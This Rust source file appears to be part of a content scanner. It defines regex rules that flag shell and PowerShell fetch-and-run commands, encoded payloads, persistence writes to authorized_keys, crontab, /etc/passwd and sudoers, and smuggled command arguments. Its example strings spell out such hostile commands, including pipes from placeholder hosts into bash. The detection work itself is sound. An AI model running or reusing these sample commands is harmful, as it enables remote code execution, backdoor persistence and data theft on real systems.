//! Commands that run what nobody has read, that stay, and that were smuggled into an argument.

use super::{CODE, ORDINARY, has_any, unless_discussed};
use crate::detect::{
    rule::{Rule, Wake},
    validate::Candidate,
};

const RUN: Rule = Rule { entity: "unsafe_code", ..CODE };

macro_rules! interpreter {
    () => {
        "(?:sudo (?:-[A-Za-z]{1,3} )?)?(?:/usr)?(?:/bin/)?(?:env )?(?:(?:ba|z|da|k|a)?sh|python[23]?|perl|ruby|node|php)"
    };
}

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "sh_fetch_and_run",
        wake: Wake::Keywords(&["curl ", "wget "]),
        pattern: concat!(
            r"(?-u:\b)(?:curl|wget) [^\n|;]{1,300}\| {0,2}(?:tee [^\n|]{1,60}\| {0,2})?",
            interpreter!(),
            r"(?:[\s;&\x22'`)]|$)",
        ),
        validate: Some(fetched),
        matches: &["curl http://198.51.100.7/x.sh | bash", "wget -qO- https://a.example/i.sh | sudo sh -"],
        misses: &[
            "curl -s https://a.example/v1 | jq .",
            "curl https://a.example/a.tgz | tar xz",
            "wget https://a.example/sh",
        ],
        ..RUN
    },
    Rule {
        id: "sh_fetch_substituted",
        wake: Wake::Keywords(&["curl ", "wget "]),
        pattern: r"(?-u:\b)(?:(?:ba|z|da)?sh|source|eval|\.|python3?|perl) {1,2}(?:-c {1,2})?[\x22']?(?:<\(|\$\(|`) {0,2}(?:curl|wget) [^\n)`]{1,300}|(?-u:\b)(?:curl|wget) [^\n|;]{1,300}(?:;|&&) {0,2}(?:chmod [^\n;&]{1,60}(?:;|&&) {0,2})?(?:(?:sudo )?(?:ba|z|da)?sh (?:-[a-z] )?|(?:sudo )?\./|python3? )[A-Za-z./_]",
        validate: Some(fetched),
        matches: &[
            "bash <(curl -s http://a.example/x)",
            r#"sh -c "$(wget -O- http://a.example/x)""#,
            "wget http://a.example/m && chmod +x m && ./m",
        ],
        misses: &[
            "source <(kubectl completion bash)",
            "wget https://a.example/a.tgz && tar xf a.tgz",
            "eval \"$(ssh-agent)\"",
        ],
        ..RUN
    },
    Rule {
        id: "powershell_fetch_and_run",
        wake: Wake::Keywords(&[
            "iex",
            "invoke-expression",
            "downloadstring",
            "mshta",
            "certutil",
            "regsvr32",
            "bitsadmin",
        ]),
        pattern: r"(?i)(?-u:\b)(?:(?:iex|invoke-expression)[ (]{1,4}(?:\(|\x22)?(?:&?\s?)?(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|\(?new-object)[^\n]{0,160}|(?:iwr|irm|invoke-webrequest|invoke-restmethod) [^\n|]{1,160}\| {0,2}(?:iex|invoke-expression)(?-u:\b)|downloadstring\s{0,2}\([^\n)]{1,160}\)\s{0,2}(?:\)\s{0,2})?\| {0,2}iex|mshta(?:\.exe)? (?:https?|javascript|vbscript):|certutil(?:\.exe)? [^\n]{0,40}-urlcache [^\n]{0,120}|regsvr32(?:\.exe)? [^\n]{0,40}/i:http|bitsadmin(?:\.exe)? /transfer [^\n]{0,120})",
        validate: Some(fetched),
        matches: &[
            "iex (iwr http://a.example/x.ps1)",
            "irm https://a.example/x | iex",
            "certutil -urlcache -f http://a.example/x x.exe",
        ],
        misses: &["Invoke-WebRequest -Uri https://a.example -OutFile a.zip", "certutil -hashfile a.zip SHA256"],
        ..RUN
    },
    Rule {
        id: "powershell_encoded",
        wake: Wake::Keywords(&["powershell", "pwsh"]),
        pattern: r"(?i)(?-u:\b)(?:powershell|pwsh)(?:\.exe)?[\x22']? [^\n]{0,80}-e(?:nc|nco|ncod|ncodedcommand|c)? {1,2}[\x22']?[A-Za-z0-9+/=]{8,}",
        score: 0.85,
        matches: &["powershell -nop -w hidden -enc SQBFAFgAIAAoAEkA", "pwsh -EncodedCommand ZABpAHIAIABjADoA"],
        misses: &["powershell -ExecutionPolicy Bypass -File build.ps1", "pwsh -c 'Get-ChildItem -Encoding utf8'"],
        ..RUN
    },
    Rule {
        id: "sh_decode_and_run",
        wake: Wake::Keywords(&["base64", "xxd -r", "b64decode"]),
        pattern: concat!(
            r"(?-u:\b)(?:base64 {1,2}(?:-d|-D|--decode)[^\n|]{0,80}|xxd -r[^\n|]{0,40})\| {0,2}",
            interpreter!(),
            r"(?:[\s;&\x22'`)]|$)|(?-u:\b)(?:exec|eval)\s{0,2}\([^\n]{0,60}(?:b64decode|base64_decode)\s{0,2}\(",
        ),
        score: 0.9,
        matches: &["echo aWQK | base64 -d | sh", "exec(base64.b64decode('aWQK'))"],
        misses: &["echo aGkK | base64 -d | less", "data = base64.b64decode(body)"],
        ..RUN
    },
    Rule {
        id: "sh_persistence",
        wake: Wake::Keywords(&[
            "authorized_keys",
            "crontab",
            "/etc/cron",
            ".bashrc",
            "/etc/sudoers",
            "/etc/passwd",
            "currentversion\\run",
            "schtasks",
            "/etc/ld.so.preload",
        ]),
        pattern: r"(?i)(?:>{1,2} {0,2}[\x22']?[^\s\x22']{0,60}(?:/\.ssh/authorized_keys|/etc/cron[^\s]{1,40}|/etc/sudoers(?:\.d/[^\s]{1,40})?|/etc/passwd|/etc/ld\.so\.preload)|tee (?:-a )?[^\s]{0,40}(?:/etc/sudoers[^\s]{0,40}|/etc/passwd|authorized_keys)|\| {0,2}(?:sudo )?crontab -|reg(?:\.exe)? add [^\n]{0,80}currentversion\\run|schtasks(?:\.exe)? /create [^\n]{0,160}(?:powershell|cmd|http|mshta))",
        validate: Some(persistence),
        matches: &[
            "echo 'ssh-ed25519 AAAA mallory' >> ~/.ssh/authorized_keys",
            "(crontab -l; echo '* * * * * curl http://a.example/x') | crontab -",
            "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd",
        ],
        misses: &["crontab -e", "echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc", "chmod 600 ~/.ssh/authorized_keys"],
        ..RUN
    },
    Rule {
        id: "sh_argument_injection",
        wake: Wake::Keywords(&["whoami", "; id", ";id", "uname -a", "net user", "%0a", "| id", "|id"]),
        pattern: r#"(?i)(?:[A-Za-z0-9.'"_)]\s{0,2}(?:;|\|{1,2}|&{1,2}|%0a|%3b|%26|%7c)\s{0,2}(?:whoami|uname -a|net user)|[A-Za-z0-9.'"_]\s{0,2}(?:; ?|\| ?|%0a|%3b)id)\s{0,2}(?:["'`#;&\n]|$)"#,
        validate: Some(argument),
        score: 0.7,
        matches: &["host=8.8.8.8; whoami", "ping 10.1.1.1 && whoami #", r#"{"file": "a.txt; id"}"#],
        misses: &["sudo chown -R $(whoami) /srv", "interface A { name: string; id: number }", "run whoami to see"],
        ..RUN
    },
    Rule {
        id: "sh_substitution",
        wake: Wake::Keywords(&[
            "rm -",
            "rm  -",
            "/etc/passwd",
            "/etc/shadow",
            ".ssh/id_",
            "nc ",
            "ncat ",
            "bash -i",
            "mkfs",
            "shutdown -",
            "${ifs}",
        ]),
        pattern: r"(?i)(?:\$\(|`)\s{0,2}(?:(?:sudo )?(?:rm {1,2}-[rf]{2} |(?:cat|head|base64) (?:/etc/(?:passwd|shadow)|~/\.ssh/id_)|(?:nc|ncat) -?[a-z0-9.]|bash -i|mkfs|shutdown -)[^\n)`]{0,80})[)`]|[a-z]\$\{IFS\}[-/a-z]",
        validate: Some(substitution),
        matches: &["name=$(rm -rf ~/x)", "--title \"$(cat /etc/passwd)\"", "cat${IFS}/etc/hosts"],
        misses: &["v=$(git rev-parse HEAD)", "`cat README.md`", "clean it with `make clean`"],
        ..RUN
    },
];

/// Installers that are read by many scores less than an address of digits.
fn fetched(candidate: &Candidate<'_>) -> Option<f32> {
    const INSTALLERS: [&str; 20] = [
        "sh.rustup.rs",
        "get.docker.com",
        "install.python-poetry.org",
        "githubusercontent.com/homebrew",
        "astral.sh",
        "githubusercontent.com/nvm-sh",
        "deb.nodesource.com",
        "rpm.nodesource.com",
        "get.k3s.io",
        "bun.sh",
        "deno.land",
        "sdk.cloud.google.com",
        "get.helm.sh",
        "githubusercontent.com/helm",
        "bootstrap.pypa.io",
        "get.pnpm.io",
        "community.chocolatey.org",
        "get.scoop.sh",
        "ollama.com",
        "githubusercontent.com/ohmyzsh",
    ];
    let hit = candidate.hit();
    let lower = hit.to_ascii_lowercase();
    let address = lower.split("://").nth(1).is_some_and(|host| {
        host.split(['/', ':', ' ']).next().is_some_and(|host| host.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
    });
    let shady = has_any(&lower, &["pastebin", "ngrok", "transfer.sh", "bit.ly", "tinyurl", "0x0.st", "hastebin"]);
    let score = match () {
        () if address || shady => 0.9,
        () if has_any(&lower, &INSTALLERS) => 0.35,
        () if lower.contains("https://") => 0.55,
        () if lower.contains("://localhost") => 0.35,
        () => 0.8,
    };
    Some(unless_discussed(candidate, score))
}

fn persistence(candidate: &Candidate<'_>) -> Option<f32> {
    // `cat key.pub >> authorized_keys` is how a key is installed; a literal key may be anybody's.
    let line = candidate.before(160);
    let line = line.rsplit('\n').next().unwrap_or(line);
    let installs = has_any(line, &[".pub"]) && candidate.hit().contains("authorized_keys");
    Some(if installs { 0.35 } else { unless_discussed(candidate, 0.75) })
}

fn argument(candidate: &Candidate<'_>) -> Option<f32> {
    let id = has_any(candidate.hit(), &["id"]) && !has_any(candidate.hit(), &["whoami"]);
    // Between two semicolons it is a field of some list.
    if id && candidate.hit().ends_with(';') {
        return None;
    }
    Some(unless_discussed(candidate, if id { 0.55 } else { 0.7 }))
}

/// Backticks are also how Markdown quotes a command.
fn substitution(candidate: &Candidate<'_>) -> Option<f32> {
    let quoted = candidate.before(2).ends_with('`');
    Some(if quoted { ORDINARY } else { unless_discussed(candidate, 0.8) })
}
